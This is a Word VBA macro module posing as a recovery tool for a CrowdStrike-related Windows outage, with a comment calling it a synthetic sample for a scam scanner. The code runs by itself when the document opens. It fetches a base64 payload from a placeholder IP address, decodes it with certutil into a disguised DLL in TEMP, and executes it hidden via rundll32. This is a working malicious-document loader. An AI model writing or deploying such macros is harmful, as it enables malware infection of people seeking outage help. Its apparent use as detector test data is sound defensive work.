Attribute VB_Name = "NewMacros"
' New Recovery Tool to help with CrowdStrike issue impacting Windows
' (scamscan synthetic sample - harmless text, not malware)
Option Explicit

Sub AutoOpen()
    RecoverSystem
End Sub

Sub Document_Open()
    RecoverSystem
End Sub

Private Sub RecoverSystem()
    Dim http As Object, fso As Object, f As Object
    Dim b64 As String, dll As String
    b64 = Environ("TEMP") & "\mscorsvc.txt"
    dll = Environ("TEMP") & "\mscorsvc.dll"
    Set http = CreateObject("MSXML2.XMLHTTP")
    http.Open "GET", "http://192.0.2.10/recovery/mscorsvc.txt", False
    http.Send
    Set fso = CreateObject("Scripting.FileSystemObject")
    Set f = fso.CreateTextFile(b64, True)
    f.Write http.responseText
    f.Close
    Shell "cmd.exe /c certutil -decode """ & b64 & """ """ & dll & """", vbHide
    Shell "rundll32.exe """ & dll & """,DllMain", vbHide
End Sub
